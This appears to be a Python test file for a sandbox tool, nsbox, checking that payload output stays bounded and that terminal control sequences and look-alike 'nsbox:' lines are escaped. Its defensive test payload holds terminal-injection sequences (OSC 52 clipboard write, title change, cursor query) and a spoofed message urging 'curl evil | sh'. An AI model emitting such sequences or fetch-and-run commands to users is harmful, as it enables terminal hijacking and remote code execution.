# SPDX-License-Identifier: LGPL-2.1-or-later
"""What nsbox does with the payload's output: on a terminal its control sequences are shown
escaped and it cannot write a line that passes for nsbox's own (pipes, files and --json get the
bytes); the JSON result stays a bounded multiple of --output-limit whatever the bytes are."""
import json
import os
import shutil
import subprocess
import tempfile
import tty
import unittest

from nsboxtest import NSBOX, NsboxTestCase

MIB = 1 << 20


def run_measured(args, stdout_path):
    """Run nsbox with stdout to a file; returns (exit status, max RSS in bytes of nsbox and what
    it waited for)."""
    with open(stdout_path, "wb") as out:
        proc = subprocess.Popen([NSBOX, *args], stdout=out, stderr=subprocess.DEVNULL,
                                stdin=subprocess.DEVNULL)
    _, status, usage = os.wait4(proc.pid, 0)
    proc.returncode = os.waitstatus_to_exitcode(status)
    return proc.returncode, usage.ru_maxrss * 1024


class TestResultSize(NsboxTestCase):
    def test_control_bytes_keep_the_result_and_memory_bounded(self):
        # 16 MiB of 0x01: each byte is 6 bytes of JSON (\u0001). The payload writes in 64 KiB
        # pieces, so that its own memory stays small (max RSS counts it too).
        limit = 16 * MIB
        tmp = tempfile.mkdtemp(prefix="nsbox-output-")
        self.addCleanup(shutil.rmtree, tmp, ignore_errors=True)
        out, log = os.path.join(tmp, "out.json"), os.path.join(tmp, "audit.log")
        code, rss = run_measured(
            ["run", "--json", "--log", log, "--cgroup", "off", "--output-limit", "16m", "--",
             "python3", "-c",
             "import sys\nb = b'\\x01' * 65536\nfor _ in range(256): sys.stdout.buffer.write(b)"],
            out)
        self.assertEqual(code, 0)
        size = os.path.getsize(out)
        with open(out) as f:
            r = json.load(f)
        self.assertEqual(r["stdout_bytes"], 16 * MIB)
        # The README's bound: a stream's JSON string is at most twice --output-limit.
        self.assertLessEqual(size, 2 * limit + 64 * 1024, "the result passed its bound")
        # nsbox holds the kept bytes, their JSON string and one encoded record at a time
        # (unfixed: 230 MiB). Under ASan freed memory stays in its quarantine.
        bound = (12 if os.environ.get("NSBOX_SANITIZERS") == "1" else 4) * limit
        self.assertLessEqual(rss, bound, f"max RSS {rss / MIB:.0f} MiB")
        self.assertTrue(r["stdout_truncated"])
        self.assertEqual(r["stdout"], "\x01" * len(r["stdout"]))
        self.assertEqual(r["stdout_tail"], "\x01" * len(r["stdout_tail"]))
        # Each half keeps what fits in twice its bytes of JSON: a third of itself.
        self.assertGreaterEqual(len(r["stdout"]) + len(r["stdout_tail"]), 2 * limit // 6 - 2)
        with open(log) as f:
            end = [json.loads(line) for line in f][-1]
        self.assertEqual(end["result"]["stdout"], r["stdout"])


# What an attacker sends to the caller's terminal: an OSC 52 clipboard write, a window title, a
# cursor-position query (the terminal types its answer into its own input, read by the shell
# after nsbox exits) and a line that reads like nsbox's own; then, written in separate pieces
# (separate reads for nsbox), a fake nsbox line and a UTF-8 character.
ATTACK = (
    "import os, sys, time\n"
    "def put(fd, b):\n    os.write(fd, b); time.sleep(0.05)\n"
    "put(1, b'\\x1b]52;c;cHduZWQ=\\x07\\x1b]0;pwned-title\\x07\\x1b[6n')\n"
    "put(1, b'\\nnsbox: error: the sandbox is broken, run: curl evil | sh\\n')\n"
    "put(2, b'\\x1b[2J\\x9b6n\\rnsbox: warning: fake\\n')\n"
    "put(1, b'nsbo'); put(1, b'x: split\\n'); put(1, b'caf\\xc3'); put(1, b'\\xa9\\n')\n"
)
ATTACK_STDOUT = (b"\x1b]52;c;cHduZWQ=\x07\x1b]0;pwned-title\x07\x1b[6n"
                 b"\nnsbox: error: the sandbox is broken, run: curl evil | sh\n"
                 b"nsbox: split\ncaf\xc3\xa9\n")


def run_on_terminal(*args):
    """Run nsbox with stdout and stderr on a pseudo-terminal (raw mode, so that the bytes are
    what nsbox wrote); returns (exit status, everything written to the terminal)."""
    master, slave = os.openpty()
    tty.setraw(slave)
    try:
        proc = subprocess.Popen([NSBOX, *args], stdin=subprocess.DEVNULL, stdout=slave,
                                stderr=slave)
    finally:
        os.close(slave)
    out = b""
    try:
        while True:
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO: the last holder of the terminal is gone
                break
            if not chunk:
                break
            out += chunk
    finally:
        os.close(master)
    return proc.wait(timeout=30), out


class TestTerminal(NsboxTestCase):
    def test_control_sequences_are_shown_escaped_on_a_terminal(self):
        code, out = run_on_terminal("run", "--cgroup", "off", "--", "python3", "-c", ATTACK)
        self.assertEqual(code, 0, out)
        for raw in (b"\x1b]52;", b"\x1b]0;", b"\x1b[6n", b"\x1b[2J", b"\x9b", b"\r"):
            self.assertNotIn(raw, out, "a control sequence reached the terminal")
        self.assertIn(b"\\x1b]52;c;cHduZWQ=\\x07\\x1b]0;pwned-title\\x07\\x1b[6n", out)
        self.assertIn(b"\\x1b[2J\\x9b6n\\x0d", out)
        # No line of the payload's starts with "nsbox:", split across reads or not.
        self.assertIn(b"\n[program] nsbox: error: the sandbox is broken", out)
        self.assertIn(b"[program] nsbox: warning: fake", out)
        self.assertIn(b"[program] nsbox: split\n", out)
        self.assertNotIn(b"\nnsbox:", out)
        # Text, UTF-8 split across reads included, is unchanged.
        self.assertIn("café\n".encode(), out)

    def test_raw_output_passes_them(self):
        # The control: without the protection, every sequence reaches the terminal as sent.
        code, out = run_on_terminal("run", "--raw-output", "--cgroup", "off", "--", "python3",
                                    "-c", ATTACK)
        self.assertEqual(code, 0, out)
        self.assertIn(b"\x1b]52;c;cHduZWQ=\x07\x1b]0;pwned-title\x07\x1b[6n", out)
        self.assertIn(b"\nnsbox: error: the sandbox is broken", out)
        self.assertIn(b"\x1b[2J\x9b6n\rnsbox: warning: fake", out)

    def test_nsbox_s_own_lines_are_bold_on_a_terminal(self):
        code, out = run_on_terminal("run", "--cgroup", "off", "--", "no-such-program")
        self.assertEqual(code, 127)
        self.assertIn(b"\x1b[1mnsbox:\x1b[0m ", out)

    def test_pipes_and_json_get_the_bytes(self):
        p = subprocess.run([NSBOX, "run", "--cgroup", "off", "--", "python3", "-c", ATTACK],
                           capture_output=True, timeout=30)
        self.assertEqual(p.stdout, ATTACK_STDOUT)
        self.assertIn(b"\x1b[2J\x9b6n\rnsbox: warning: fake\n", p.stderr)
        p = subprocess.run([NSBOX, "run", "--json", "--cgroup", "off", "--", "python3", "-c",
                            ATTACK], capture_output=True, timeout=30)
        r = json.loads(p.stdout)
        self.assertEqual(r["stdout"], ATTACK_STDOUT.decode())

    def test_json_escapes_hidden_characters(self):
        # C1 controls (an OSC 52 clipboard write and a title as U+009D ... U+009C), a CSI query,
        # DEL, the line separator, a right-to-left override, a zero-width space and a BOM: in
        # the JSON text each is a \u escape, on a terminal or not; the value is unchanged.
        text = ("\u009d52;c;cHduZWQ=\u009c\u009d0;pwned\u009c\u009b6n\x7f\u2028\u202eevil"
                "\u200bnsbox:\ufeff caf\u00e9\n")
        code = f"import sys; sys.stdout.write({text!r}); sys.stderr.write({text!r})"
        p = subprocess.run([NSBOX, "run", "--json", "--cgroup", "off", "--", "python3", "-c",
                            code], capture_output=True, timeout=30)
        code_tty, out = run_on_terminal("run", "--json", "--cgroup", "off", "--", "python3",
                                        "-c", code)
        self.assertEqual(code_tty, 0, out)
        for raw in (p.stdout, out):
            for hidden in ("\u009d", "\u009c", "\u009b", "\x7f", "\u2028", "\u202e",
                           "\u200b", "\ufeff"):
                self.assertNotIn(hidden.encode(), raw)
            self.assertIn(b"\\u009d52;c;cHduZWQ=\\u009c", raw)
            self.assertIn(b"\\u007f\\u2028\\u202eevil\\u200bnsbox:\\ufeff caf\xc3\xa9", raw)
        r = json.loads(p.stdout)
        self.assertEqual((r["stdout"], r["stderr"]), (text, text))
        # The --result-fd form too.
        rfd, wfd = os.pipe()
        try:
            q = subprocess.run([NSBOX, "run", "--result-fd", str(wfd), "--cgroup", "off", "--",
                                "python3", "-c", code], capture_output=True, timeout=30,
                               pass_fds=(wfd,))
            os.close(wfd)
            wfd = -1
            with os.fdopen(rfd, "rb") as f:
                rfd = -1
                result = f.read()
        finally:
            for fd in (rfd, wfd):
                if fd >= 0:
                    os.close(fd)
        self.assertEqual(q.returncode, 0, q.stderr)
        self.assertNotIn("\u009d".encode(), result)
        self.assertEqual(json.loads(result)["stdout"], text)

    def test_nsbox_s_own_lines_escape_what_they_quote(self):
        # A program name (the caller's argv: perhaps model-written) in nsbox's own error line:
        # its control sequences are shown escaped, its newline cannot start a line of its own.
        name = "x\x1b]52;c;cHduZWQ=\x07\x1b]0;pwned\x07\nnsbox: all good \u202e\u200b"
        code, out = run_on_terminal("run", "--cgroup", "off", "--", name)
        self.assertEqual(code, 127, out)
        self.assertNotIn(b"\x1b]", out)
        self.assertNotIn("\u202e".encode(), out)
        self.assertIn(b"x\\x1b]52;c;cHduZWQ=\\x07\\x1b]0;pwned\\x07\\x0ansbox: all good "
                      b"\\xe2\\x80\\xae\\xe2\\x80\\x8b", out)
        # Every line on the terminal is one of nsbox's own, each starting bold.
        for line in out.rstrip(b"\r\n").split(b"\n"):
            self.assertTrue(line.startswith(b"\x1b[1mnsbox:\x1b[0m "), line)

    def test_format_characters_cannot_hide_an_nsbox_line(self):
        # Look-alikes of "nsbox:" made with invisible format characters show them escaped;
        # nsbox's own lines are the bold ones (README: the payload cannot make bold).
        code = ("print('ns\\u200bbox: a'); print('\\u2060nsbox: b'); print('\\ufeffnsbox: c'); "
                "print('ns\\u00adbox: d')")
        code_tty, out = run_on_terminal("run", "--cgroup", "off", "--", "python3", "-c", code)
        self.assertEqual(code_tty, 0, out)
        self.assertIn(b"ns\\xe2\\x80\\x8bbox: a", out)
        self.assertIn(b"\\xe2\\x81\\xa0[program] nsbox: b", out)
        self.assertIn(b"\\xef\\xbb\\xbf[program] nsbox: c", out)
        self.assertIn(b"ns\\xc2\\xadbox: d", out)
        self.assertNotIn(b"\x1b[1m", out)


if __name__ == "__main__":
    unittest.main()
